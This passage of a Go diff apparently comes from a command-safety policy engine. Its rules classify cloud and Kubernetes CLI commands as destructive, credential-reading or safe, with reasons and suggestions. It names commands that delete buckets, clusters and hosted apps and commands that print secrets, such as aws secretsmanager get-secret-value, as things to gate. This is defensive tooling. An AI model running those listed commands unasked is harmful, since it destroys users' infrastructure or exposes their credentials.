 	return Pack{Rules: []Rule{{ID: "cloud.storage-tools.delete", Exe: []string{"s3cmd", "mc", "rclone"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "This storage command deletes objects or buckets, or syncs with deletion.", Suggestion: "Preview with --dry-run and ask first.", Match: Match{FlagsNone: []string{"--dry-run", "-n", "--dryrun"}, Verbs: []string{"rm", "del", "rb", "delete", "deletefile", "purge", "rmdir", "rmdirs", "cleanup", "sync", "mirror", "dedupe", "move", "mv", "remove", "disable", "unset"}, VerbDepth: 3}}}}
 }
 
-func packsCloudL181() Pack {
+func packsCloudL180() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.paas.delete", Exe: []string{"doctl", "linode-cli", "hcloud", "oci", "ibmcloud", "flyctl", "fly", "heroku", "vercel", "netlify", "wrangler", "firebase", "supabase", "railway", "render", "amplify", "copilot", "eb"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "This command deletes or destroys hosted apps, databases, domains or other cloud resources.", Suggestion: "Ask before deleting hosted resources.", Match: Match{Verbs: []string{"delete", "destroy", "remove", "rm", "purge", "terminate", "apps:destroy", "pg:reset", "*:destroy", "*:delete", "*:remove", "*:reset", "reset", "drop", "unlink", "down", "scale", "rollback"}, VerbDepth: 4}}}}
 }
 
-func packsCloudL193() Pack {
+func packsCloudL192() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.iac-tools.destroy", Exe: []string{"cdk", "sam", "serverless", "sls"}, Category: "infrastructure", Tier: "destructive", Blast: "high", Reason: "This tears down the deployed stack and its resources.", Suggestion: "Ask before destroying deployed stacks.", Match: Match{Verbs: []string{"destroy", "delete", "remove"}, VerbDepth: 1}}}}
 }
 
-func packsCloudL205() Pack {
+func packsCloudL204() Pack {
 	return Pack{Rules: []Rule{{ID: "cloud.dns-nsupdate", Exe: []string{"nsupdate"}, Category: "cloud-delete", Tier: "destructive", Blast: "high", Reason: "nsupdate sends dynamic DNS updates that can delete or replace records.", Suggestion: "Ask before changing DNS."}}}
 }
 
-func packsCloudL214() Pack {
+func packsCloudL213() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"aws"}, Verbs: []string{"describe-*", "list-*", "get-*", "ls", "head-*", "lookup-*", "search-*", "help", "wait", "get-caller-identity", "filter-log-events", "tail", "presign", "--version"}, VerbDepth: 2}}}
 }
 
-func packsCloudL219() Pack {
+func packsCloudL218() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"gcloud"}, Verbs: []string{"list", "describe", "get-iam-policy", "info", "version", "help", "config", "auth", "read", "get-value", "print-access-token", "tail", "logs", "list-*", "get-*"}, VerbDepth: 5}}}
 }
 
-func packsCloudL224() Pack {
+func packsCloudL223() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"gsutil"}, Verbs: []string{"ls", "cat", "stat", "du", "hash", "version", "help", "acl", "iam", "logging", "versioning"}, VerbDepth: 1}}}
 }
 
-func packsCloudL229() Pack {
+func packsCloudL228() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"az"}, Verbs: []string{"list", "show", "exists", "get-*", "list-*", "version", "--version", "help", "account", "query", "tail", "download"}, VerbDepth: 5}}}
 }
 
-func packsCloudL234() Pack {
+func packsCloudL233() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"azcopy"}, Verbs: []string{"list", "jobs", "env", "--version", "login"}, VerbDepth: 1}}}
 }
 
-func packsCloudL239() Pack {
+func packsCloudL238() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"s3cmd", "mc", "rclone"}, Verbs: []string{"ls", "lsd", "lsl", "la", "info", "du", "cat", "stat", "head", "tree", "find", "check", "about", "listremotes", "version", "size", "md5sum", "sha1sum", "config", "admin"}, VerbDepth: 1}}}
 }
 
-func packsCloudL244() Pack {
+func packsCloudL243() Pack {
 	return Pack{URLs: []URLSpec{{Exe: []string{"aws", "gcloud", "az"}, Flags: []string{"--endpoint-url"}}}}
 }
 
@@ -4081,82 +4092,82 @@ func packsKubernetesL27() Pack {
 }
 
 func packsKubernetesL39() Pack {
-	return Pack{Rules: []Rule{{ID: "k8s.delete", Exe: []string{"kubectl", "oc"}, Sub: []string{"delete"}, Category: "cluster-delete", Tier: "destructive", Blast: "high", Reason: "Deleting Kubernetes resources stops what runs in them; stateful data may go with them.", Suggestion: "Scale down or ask before deleting; use --dry-run=client to preview.", Match: Match{FlagsNone: []string{"--dry-run"}}}}}
+	return Pack{Rules: []Rule{{ID: "k8s.delete", Exe: []string{"kubectl", "oc"}, Sub: []string{"delete"}, Category: "cluster-delete", Tier: "destructive", Blast: "high", Reason: "Deleting Kubernetes resources stops what runs in them; stateful data may go with them.", Suggestion: "Scale down or ask before deleting; use --dry-run=client to preview."}}}
 }
 
-func packsKubernetesL51() Pack {
+func packsKubernetesL49() Pack {
 	return Pack{Rules: []Rule{{ID: "k8s.drain", Exe: []string{"kubectl", "oc"}, Sub: []string{"drain|cordon|taint"}, Category: "cluster-delete", Tier: "destructive", Blast: "high", Reason: "Draining or tainting a node evicts its workloads.", Suggestion: "Ask before draining nodes."}}}
 }
 
-func packsKubernetesL61() Pack {
+func packsKubernetesL59() Pack {
 	return Pack{Rules: []Rule{{ID: "k8s.scale-zero", Exe: []string{"kubectl", "oc"}, Sub: []string{"scale"}, Category: "cluster-delete", Tier: "destructive", Blast: "high", Reason: "Scaling to zero replicas takes the service down.", Suggestion: "Scale to the number of replicas the service needs.", Match: Match{FlagValues: map[string][]string{"--replicas": {"0"}}}}}}
 }
 
-func packsKubernetesL73() Pack {
+func packsKubernetesL71() Pack {
 	return Pack{Rules: []Rule{{ID: "k8s.apply-prune", Exe: []string{"kubectl", "oc"}, Sub: []string{"apply"}, Category: "cluster-delete", Tier: "destructive", Blast: "high", Reason: "apply --prune deletes every resource matching the selector that is not in the manifests.", Suggestion: "Apply without --prune and delete stale resources by name.", Match: Match{FlagsAny: []string{"--prune"}}}}}
 }
 
-func packsKubernetesL85() Pack {
+func packsKubernetesL83() Pack {
 	return Pack{Rules: []Rule{{ID: "k8s.replace-force", Exe: []string{"kubectl", "oc"}, Sub: []string{"replace|apply"}, Category: "cluster-delete", Tier: "destructive", Blast: "medium", Reason: "--force deletes and re-creates the resources, with downtime.", Suggestion: "Apply normally.", Match: Match{FlagsAny: []string{"--force"}}}}}
 }
 
-func packsKubernetesL97() Pack {
+func packsKubernetesL95() Pack {
 	return Pack{Rules: []Rule{{ID: "k8s.secret-read", Exe: []string{"kubectl", "oc"}, Sub: []string{"get|describe"}, Category: "secret-read", Tier: "read", Blast: "medium", Verdict: "ask", Reason: "Printing Secret objects as YAML/JSON shows their values (base64 is not encryption).", Suggestion: "List secrets by name only (kubectl get secrets) or read the one key you need in the program that uses it.", Match: Match{FlagsAny: []string{"-o", "--output", "--template"}, OperandAt: intp(0), OperandAtAny: []string{"secret", "secrets", "secret/*", "secrets/*"}}}}}
 }
 
-func packsKubernetesL112() Pack {
+func packsKubernetesL110() Pack {
 	return Pack{Rules: []Rule{{ID: "k8s.exec-shell", Exe: []string{"kubectl", "oc"}, Sub: []string{"exec|debug|attach|run"}, Category: "container", Tier: "execute", Blast: "medium", Reason: "The command runs inside a cluster workload.", Suggestion: "Prefer read-only commands (get, logs, describe)."}}}
 }
 
-func packsKubernetesL122() Pack {
-	return Pack{Rules: []Rule{{ID: "helm.uninstall", Exe: []string{"helm"}, Sub: []string{"uninstall|delete|del|un"}, Category: "cluster-delete", Tier: "destructive", Blast: "high", Reason: "helm uninstall removes the release and all its resources.", Suggestion: "Ask before uninstalling releases.", Match: Match{FlagsNone: []string{"--dry-run"}}}}}
+func packsKubernetesL120() Pack {
+	return Pack{Rules: []Rule{{ID: "helm.uninstall", Exe: []string{"helm"}, Sub: []string{"uninstall|delete|del|un"}, Category: "cluster-delete", Tier: "destructive", Blast: "high", Reason: "helm uninstall removes the release and all its resources.", Suggestion: "Ask before uninstalling releases; helm uninstall --dry-run shows what would go."}}}
 }
 
-func packsKubernetesL134() Pack {
+func packsKubernetesL130() Pack {
 	return Pack{Rules: []Rule{{ID: "helm.rollback", Exe: []string{"helm"}, Sub: []string{"rollback"}, Category: "cluster-delete", Tier: "destructive", Blast: "medium", Reason: "Rolling back a release replaces the running version.", Suggestion: "Ask before rolling back."}}}
 }
 
-func packsKubernetesL144() Pack {
+func packsKubernetesL140() Pack {
 	return Pack{Rules: []Rule{{ID: "helm.force", Exe: []string{"helm"}, Sub: []string{"upgrade|install"}, Category: "cluster-delete", Tier: "destructive", Blast: "medium", Reason: "--force deletes and re-creates resources, and --reset-values drops configuration.", Suggestion: "Upgrade without --force.", Match: Match{FlagsAny: []string{"--force", "--reset-values", "--replace"}}}}}
 }
 
-func packsKubernetesL156() Pack {
+func packsKubernetesL152() Pack {
 	return Pack{Rules: []Rule{{ID: "k8s.cluster-delete", Exe: []string{"minikube", "kind", "k3d", "eksctl"}, Category: "cluster-delete", Tier: "destructive", Blast: "high", Reason: "Deleting a cluster removes every workload and volume in it.", Suggestion: "Ask before deleting clusters.", Match: Match{Verbs: []string{"delete", "destroy"}, VerbDepth: 2}}}}
 }
 
-func packsKubernetesL168() Pack {
+func packsKubernetesL164() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"kubectl", "oc"}, Sub: []string{"get|describe|logs|top|version|explain|api-resources|api-versions|cluster-info|diff|events|wait|completion|plugin|kustomize|whoami"}}}}
 }
 
-func packsKubernetesL172() Pack {
+func packsKubernetesL168() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"kubectl", "oc"}, Sub: []string{"config", "view|get-contexts|current-context|get-clusters|get-users"}}}}
 }
 
-func packsKubernetesL176() Pack {
+func packsKubernetesL172() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"kubectl", "oc"}, Sub: []string{"auth", "can-i|whoami"}}}}
 }
 
-func packsKubernetesL180() Pack {
+func packsKubernetesL176() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"kubectl", "oc"}, Sub: []string{"rollout", "status|history"}}}}
 }
 
-func packsKubernetesL184() Pack {
+func packsKubernetesL180() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"kubectl", "oc"}, Sub: []string{"apply|create|patch|label|annotate|edit|set|rollout|expose|cp|port-forward|proxy|config|autoscale|certificate|uncordon"}, Tier: "write"}}}
 }
 
-func packsKubernetesL189() Pack {
+func packsKubernetesL185() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"helm"}, Sub: []string{"list|ls|status|get|history|template|show|search|version|lint|env|verify|dependency|repo|plugin|completion"}}}}
 }
 
-func packsKubernetesL193() Pack {
+func packsKubernetesL189() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"helm"}, Sub: []string{"install|upgrade|pull|package|push|test"}, Tier: "write"}}}
 }
 
-func packsKubernetesL198() Pack {
+func packsKubernetesL194() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"kustomize"}, Sub: []string{"build|cfg|version"}}}}
 }
 
-func packsKubernetesL202() Pack {
+func packsKubernetesL198() Pack {
 	return Pack{Safe: []Safe{{Exe: []string{"kubectx", "kubens", "k9s"}, Tier: "write"}}}
 }
 
@@ -5369,970 +5380,1002 @@ func effectsBuiltinsL315() Pack {
 }
 
 func effectsCloudL18() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-paginate", "--no-sign-request", "--no-cli-pager", "--cli-auto-prompt", "--no-cli-auto-prompt", "--generate-cli-skeleton"}, Values: []string{"--profile", "--region", "--output", "--query", "--color", "--cli-read-timeout", "--cli-connect-timeout", "--cli-binary-format", "--ca-bundle", "--cli-input-json", "--cli-input-yaml"}, Effects: map[string]string{"--endpoint-url": "url"}, Operands: "subcommand", Env: map[string]string{"AWS_CONFIG_FILE": "exec", "AWS_ENDPOINT_URL": "url", "AWS_PAGER": "shell", "AWS_SHARED_CREDENTIALS_FILE": "exec", "PAGER": "shell"}, Always: []string{"network"}, Examples: []string{"aws", "aws ec2 run-instances --image-id ami-1", "aws help"}, Counter: []string{"aws ec2 describe-instances"}}}}
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-paginate", "--no-sign-request", "--no-cli-pager", "--cli-auto-prompt", "--no-cli-auto-prompt", "--generate-cli-skeleton"}, Values: []string{"--profile", "--region", "--output", "--query", "--color", "--cli-read-timeout", "--cli-connect-timeout", "--cli-binary-format", "--ca-bundle", "--cli-input-json", "--cli-input-yaml"}, Effects: map[string]string{"--endpoint-url": "url"}, Operands: "subcommand", Env: map[string]string{"AWS_CONFIG_FILE": "exec", "AWS_ENDPOINT_URL": "url", "AWS_PAGER": "shell", "AWS_SHARED_CREDENTIALS_FILE": "exec", "PAGER": "shell"}, Always: []string{"network"}, HelpWords: []string{"help"}, Examples: []string{"aws", "aws ec2 run-instances --image-id ami-1", "aws help"}, Counter: []string{"aws ec2 describe-instances"}}}}
 }
 
-func effectsCloudL37() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"*", "describe-*|list-*"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-paginate", "--no-sign-request", "--no-cli-pager", "--cli-auto-prompt", "--no-cli-auto-prompt", "--generate-cli-skeleton"}, Values: []string{"--profile", "--region", "--output", "--query", "--color", "--cli-read-timeout", "--cli-connect-timeout", "--cli-binary-format", "--ca-bundle", "--cli-input-json", "--cli-input-yaml", "--max-items", "--page-size", "--starting-token", "--filters", "--filter", "--max-results", "--next-token"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network"}, Examples: []string{"aws ec2 describe-instances --region us-east-1", "aws s3api list-buckets --query 'Buckets[].Name'", "aws lambda list-functions --output json"}, Counter: []string{"aws sts get-session-token"}}}}
+func effectsCloudL38() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"*", "describe-*|list-*"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-paginate", "--no-sign-request", "--no-cli-pager", "--cli-auto-prompt", "--no-cli-auto-prompt", "--generate-cli-skeleton"}, Values: []string{"--profile", "--region", "--output", "--query", "--color", "--cli-read-timeout", "--cli-connect-timeout", "--cli-binary-format", "--ca-bundle", "--cli-input-json", "--cli-input-yaml", "--max-items", "--page-size", "--starting-token", "--filters", "--filter", "--max-results", "--next-token"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"remote-read"}, Examples: []string{"aws ec2 describe-instances --region us-east-1", "aws s3api list-buckets --query 'Buckets[].Name'", "aws iam list-users", "aws ec2 describe-instances --filters Name=tag:env,Values=prod"}, Counter: []string{"aws sts get-session-token", "aws lambda list-functions --output json"}}}}
 }
 
-func effectsCloudL52() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"sts", "get-caller-identity|get-access-key-info"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-cli-pager"}, Values: []string{"--profile", "--region", "--output", "--query", "--color", "--access-key-id"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network"}, Examples: []string{"aws sts get-caller-identity", "aws sts get-caller-identity --query Account --output text"}}}}
+func effectsCloudL53() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"sts", "get-caller-identity|get-access-key-info"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-cli-pager"}, Values: []string{"--profile", "--region", "--output", "--query", "--color", "--access-key-id"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"remote-read"}, Examples: []string{"aws sts get-caller-identity", "aws sts get-caller-identity --query Account --output text"}}}}
 }
 
-func effectsCloudL63() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"sts", "get-session-token|get-federation-token|assume-role|assume-role-with-saml|assume-role-with-web-identity"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-cli-pager"}, Values: []string{"--profile", "--region", "--output", "--query", "--color", "--duration-seconds", "--serial-number", "--token-code", "--role-arn", "--role-session-name", "--name", "--policy", "--external-id"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws sts get-session-token", "aws sts assume-role --role-arn arn:aws:iam::1:role/x --role-session-name s"}}}}
+func effectsCloudL65() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"s3api|iam|cloudformation|logs|cloudwatch|ecr|sqs|sns|route53|acm|elbv2|autoscaling|eks|organizations|cloudtrail|kms|apigateway", "get-api-key|get-api-keys|get-bucket-*|get-object-tagging|get-public-access-block|get-user|get-role|get-group|get-policy|get-policy-version|get-role-policy|get-user-policy|get-group-policy|get-account-summary|get-account-authorization-details|get-instance-profile|get-template|get-template-summary|get-stack-policy|get-log-events|get-query-results|get-metric-data|get-metric-statistics|get-repository-policy|get-lifecycle-policy|get-queue-url|get-queue-attributes|get-topic-attributes|get-hosted-zone|get-change|get-certificate|get-key-policy|get-key-rotation-status|get-trail-status|get-event-selectors"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-paginate", "--no-sign-request", "--no-cli-pager", "--start-from-head", "--no-start-from-head", "--no-include-value"}, Values: []string{"--profile", "--region", "--output", "--query", "--color", "--cli-read-timeout", "--cli-connect-timeout", "--bucket", "--key", "--user-name", "--role-name", "--group-name", "--policy-arn", "--policy-name", "--version-id", "--instance-profile-name", "--stack-name", "--template-stage", "--change-set-name", "--log-group-name", "--log-stream-name", "--start-time", "--end-time", "--limit", "--next-token", "--query-id", "--namespace", "--metric-name", "--statistics", "--period", "--dimensions", "--metric-data-queries", "--repository-name", "--registry-id", "--queue-name", "--queue-url", "--attribute-names", "--topic-arn", "--id", "--certificate-arn", "--key-id", "--name", "--trail-name", "--filter", "--max-items", "--page-size", "--starting-token", "--api-key", "--name-query", "--customer-id", "--position"}, Effects: map[string]string{"--endpoint-url": "url", "--include-value": "credentials"}, Always: []string{"remote-read"}, Examples: []string{"aws s3api get-bucket-policy --bucket site", "aws apigateway get-api-keys", "aws iam get-role --role-name ci", "aws logs get-log-events --log-group-name /app --log-stream-name web-1 --limit 50", "aws cloudformation get-template --stack-name web"}, Counter: []string{"aws secretsmanager get-secret-value --secret-id x", "aws s3api get-object --bucket b --key k out"}}}}
 }
 
-func effectsCloudL74() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"ecr|ecr-public", "get-login-password|get-authorization-token"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-cli-pager"}, Values: []string{"--profile", "--region", "--output", "--query", "--registry-ids"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws ecr get-login-password --region us-east-1"}}}}
-}
-
-func effectsCloudL84() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"codeartifact", "get-authorization-token"}, Values: []string{"--profile", "--region", "--output", "--query", "--domain", "--domain-owner", "--duration-seconds"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws codeartifact get-authorization-token --domain d --query authorizationToken --output text"}}}}
-}
-
-func effectsCloudL93() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"secretsmanager", "get-secret-value|batch-get-secret-value"}, Values: []string{"--profile", "--region", "--output", "--query", "--secret-id", "--secret-id-list", "--version-id", "--version-stage"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws secretsmanager get-secret-value --secret-id prod/db"}}}}
+func effectsCloudL89() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"lambda|ecs|appsync|cognito-idp|glue|elasticbeanstalk|amplify|batch", "list-functions|get-function|get-function-configuration|describe-task-definition|list-api-keys|describe-user-pool-client|get-connection|get-connections|describe-configuration-settings|get-app|list-apps|get-branch|list-branches|describe-job-definitions"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-paginate", "--no-cli-pager", "--hide-password"}, Values: []string{"--profile", "--region", "--output", "--query", "--function-name", "--qualifier", "--task-definition", "--api-id", "--user-pool-id", "--client-id", "--name", "--catalog-id", "--application-name", "--environment-name", "--app-id", "--branch-name", "--max-items", "--page-size", "--starting-token", "--include"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"remote-read", "credentials"}, Examples: []string{"aws lambda list-functions --output json", "aws lambda get-function-configuration --function-name api", "aws ecs describe-task-definition --task-definition web:3", "aws appsync list-api-keys --api-id a1"}}}}
 }
 
 func effectsCloudL103() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"ssm", "get-parameter|get-parameters|get-parameters-by-path|get-parameter-history"}, Flags: []string{"--with-decryption", "--no-with-decryption", "--recursive", "--no-recursive"}, Values: []string{"--profile", "--region", "--output", "--query", "--name", "--names", "--path"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws ssm get-parameter --name /prod/db/password --with-decryption"}}}}
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"ec2", "terminate-instances|stop-instances|start-instances|reboot-instances|delete-snapshot|delete-volume|delete-security-group|delete-key-pair|deregister-image"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-cli-pager", "--force", "--no-force", "--hibernate", "--no-hibernate", "--skip-os-shutdown", "--no-skip-os-shutdown"}, Values: []string{"--profile", "--region", "--output", "--query", "--instance-ids", "--snapshot-id", "--volume-id", "--group-id", "--group-name", "--key-name", "--key-pair-id", "--image-id", "--additional-info"}, Effects: map[string]string{"--dry-run": "dry-run", "--endpoint-url": "url"}, Always: []string{"network", "changes-state"}, Examples: []string{"aws ec2 terminate-instances --instance-ids i-1 --dry-run", "aws ec2 stop-instances --instance-ids i-1"}}}}
 }
 
-func effectsCloudL113() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"eks|sso|redshift|redshift-serverless|lightsail|ec2|cognito-identity", "get-token|get-role-credentials|get-cluster-credentials|get-cluster-credentials-with-iam|get-credentials|get-instance-access-details|get-relational-database-master-user-password|get-password-data|get-credentials-for-identity|get-open-id-token"}, Values: []string{"--profile", "--region", "--output", "--query", "--cluster-name", "--role-name", "--account-id", "--access-token", "--db-user", "--cluster-identifier", "--workgroup-name", "--instance-name", "--instance-id", "--identity-id"}, Effects: map[string]string{"--endpoint-url": "url", "--priv-launch-key": "read"}, Always: []string{"network", "credentials"}, Examples: []string{"aws eks get-token --cluster-name prod", "aws sso get-role-credentials --role-name r --account-id 1 --access-token t"}}}}
+func effectsCloudL116() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"sts", "get-session-token|get-federation-token|assume-role|assume-role-with-saml|assume-role-with-web-identity"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-cli-pager"}, Values: []string{"--profile", "--region", "--output", "--query", "--color", "--duration-seconds", "--serial-number", "--token-code", "--role-arn", "--role-session-name", "--name", "--policy", "--external-id"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws sts get-session-token", "aws sts assume-role --role-arn arn:aws:iam::1:role/x --role-session-name s"}}}}
 }
 
-func effectsCloudL125() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"iam", "create-access-key|create-service-specific-credential|reset-service-specific-credential|create-login-profile"}, Values: []string{"--profile", "--region", "--output", "--query", "--user-name", "--service-name"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws iam create-access-key --user-name ci"}}}}
+func effectsCloudL127() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"ecr|ecr-public", "get-login-password|get-authorization-token"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-cli-pager"}, Values: []string{"--profile", "--region", "--output", "--query", "--registry-ids"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws ecr get-login-password --region us-east-1"}}}}
 }
 
-func effectsCloudL135() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"rds|s3", "generate-db-auth-token|presign"}, Values: []string{"--profile", "--region", "--output", "--query", "--hostname", "--port", "--username", "--expires-in"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"credentials"}, Examples: []string{"aws rds generate-db-auth-token --hostname db.example.com --port 5432 --username app", "aws s3 presign s3://bucket/report.pdf --expires-in 600"}}}}
+func effectsCloudL137() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"codeartifact", "get-authorization-token"}, Values: []string{"--profile", "--region", "--output", "--query", "--domain", "--domain-owner", "--duration-seconds"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws codeartifact get-authorization-token --domain d --query authorizationToken --output text"}}}}
 }
 
-func effectsCloudL145() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"eks", "update-kubeconfig"}, Flags: []string{"--dry-run", "--verbose"}, Values: []string{"--profile", "--region", "--name", "--role-arn", "--alias", "--user-alias"}, Effects: map[string]string{"--kubeconfig": "write"}, Always: []string{"network", "writes-files"}, Examples: []string{"aws eks update-kubeconfig --name prod"}}}}
+func effectsCloudL146() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"secretsmanager", "get-secret-value|batch-get-secret-value"}, Values: []string{"--profile", "--region", "--output", "--query", "--secret-id", "--secret-id-list", "--version-id", "--version-stage"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws secretsmanager get-secret-value --secret-id prod/db"}}}}
 }
 
 func effectsCloudL156() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"ssm", "get-parameter|get-parameters|get-parameters-by-path|get-parameter-history"}, Flags: []string{"--no-with-decryption", "--recursive", "--no-recursive"}, Values: []string{"--profile", "--region", "--output", "--query", "--name", "--names", "--path"}, Effects: map[string]string{"--endpoint-url": "url", "--with-decryption": "credentials"}, Always: []string{"remote-read"}, Examples: []string{"aws ssm get-parameter --name /prod/db/password --with-decryption", "aws ssm get-parameter --name /app/config"}}}}
+}
+
+func effectsCloudL168() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"eks|sso|redshift|redshift-serverless|lightsail|ec2|cognito-identity", "get-token|get-role-credentials|get-cluster-credentials|get-cluster-credentials-with-iam|get-credentials|get-instance-access-details|get-relational-database-master-user-password|get-password-data|get-credentials-for-identity|get-open-id-token"}, Values: []string{"--profile", "--region", "--output", "--query", "--cluster-name", "--role-name", "--account-id", "--access-token", "--db-user", "--cluster-identifier", "--workgroup-name", "--instance-name", "--instance-id", "--identity-id"}, Effects: map[string]string{"--endpoint-url": "url", "--priv-launch-key": "read"}, Always: []string{"network", "credentials"}, Examples: []string{"aws eks get-token --cluster-name prod", "aws sso get-role-credentials --role-name r --account-id 1 --access-token t"}}}}
+}
+
+func effectsCloudL180() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"iam", "create-access-key|create-service-specific-credential|reset-service-specific-credential|create-login-profile"}, Values: []string{"--profile", "--region", "--output", "--query", "--user-name", "--service-name"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network", "credentials"}, Examples: []string{"aws iam create-access-key --user-name ci"}}}}
+}
+
+func effectsCloudL190() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"rds|s3", "generate-db-auth-token|presign"}, Values: []string{"--profile", "--region", "--output", "--query", "--hostname", "--port", "--username", "--expires-in"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"credentials"}, Examples: []string{"aws rds generate-db-auth-token --hostname db.example.com --port 5432 --username app", "aws s3 presign s3://bucket/report.pdf --expires-in 600"}}}}
+}
+
+func effectsCloudL200() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"eks", "update-kubeconfig"}, Flags: []string{"--dry-run", "--verbose"}, Values: []string{"--profile", "--region", "--name", "--role-arn", "--alias", "--user-alias"}, Effects: map[string]string{"--kubeconfig": "write"}, Always: []string{"network", "writes-files"}, Examples: []string{"aws eks update-kubeconfig --name prod"}}}}
+}
+
+func effectsCloudL211() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"configure", "list"}, Values: []string{"--profile"}, Examples: []string{"aws configure list", "aws configure list --profile prod"}}}}
 }
 
-func effectsCloudL162() Pack {
+func effectsCloudL217() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"configure", "get"}, Values: []string{"--profile"}, Always: []string{"credentials"}, Examples: []string{"aws configure get aws_secret_access_key", "aws configure get profile.prod.aws_session_token"}}}}
 }
 
-func effectsCloudL169() Pack {
+func effectsCloudL224() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"configure", "get", "region|output|*.region|*.output|sso_*|*.sso_*|cli_*|*.cli_*|role_arn|*.role_arn|source_profile|*.source_profile|mfa_serial|*.mfa_serial|ca_bundle|*.ca_bundle|endpoint_url|*.endpoint_url|duration_seconds|*.duration_seconds|role_session_name|*.role_session_name|max_attempts|*.max_attempts|retry_mode|*.retry_mode"}, Values: []string{"--profile"}, Examples: []string{"aws configure get region", "aws configure get profile.prod.region", "aws configure get sso_start_url --profile dev"}, Counter: []string{"aws configure get aws_access_key_id"}}}}
 }
 
-func effectsCloudL176() Pack {
+func effectsCloudL231() Pack {
